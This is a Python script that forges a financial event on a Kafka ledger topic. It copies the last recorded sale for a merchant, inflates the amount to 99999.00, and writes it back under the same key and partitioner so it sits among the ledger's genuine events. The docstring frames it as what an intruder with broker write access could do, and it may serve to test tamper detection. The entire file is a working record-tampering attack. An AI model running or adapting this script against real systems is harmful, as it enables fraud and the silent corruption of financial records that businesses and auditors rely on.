"""Forges an event on the ledger's events topic with the Python
confluent-kafka client, as an intruder with write access to the broker
could: it copies the last sale recorded for KEY, raises its amount, and
produces it under the same key with the partitioner Java clients use
(murmur2), so it lands where the ledger's own events for KEY go.

Usage: forge_event.py BROKERS TOPIC KEY  -> prints {"partition": P, "offset": O}
"""

import json
import sys
import uuid

from confluent_kafka import Consumer, KafkaError, Producer, TopicPartition


def last_sale(brokers: str, topic: str, key: str) -> dict:
    consumer = Consumer(
        {
            "bootstrap.servers": brokers,
            "group.id": f"forger-{uuid.uuid4()}",
            "enable.auto.commit": False,
            "enable.partition.eof": True,
        }
    )
    partitions = consumer.list_topics(topic, timeout=10).topics[topic].partitions
    consumer.assign([TopicPartition(topic, p, 0) for p in partitions])
    at_end, sale = set(), None
    while len(at_end) < len(partitions):
        msg = consumer.poll(10)
        if msg is None:
            sys.exit("no answer from the broker")
        if msg.error():
            if msg.error().code() == KafkaError._PARTITION_EOF:
                at_end.add(msg.partition())
                continue
            sys.exit(str(msg.error()))
        event = json.loads(msg.value())
        if event.get("merchant_id") == key and event.get("type") == "SaleRecorded":
            sale = event
    consumer.close()
    if sale is None:
        sys.exit(f"no sale of {key} on {topic}")
    return sale


def main(brokers: str, topic: str, key: str) -> None:
    forged = last_sale(brokers, topic, key)
    forged["body"]["amount"] = "99999.00"
    delivered = {}

    def report(err, msg):
        if err is not None:
            sys.exit(f"not delivered: {err}")
        delivered["partition"] = msg.partition()
        delivered["offset"] = msg.offset()

    producer = Producer({"bootstrap.servers": brokers, "partitioner": "murmur2_random"})
    producer.produce(topic, key=key, value=json.dumps(forged).encode(), on_delivery=report)
    producer.flush(10)
    print(json.dumps(delivered))


if __name__ == "__main__":
    main(*sys.argv[1:4])
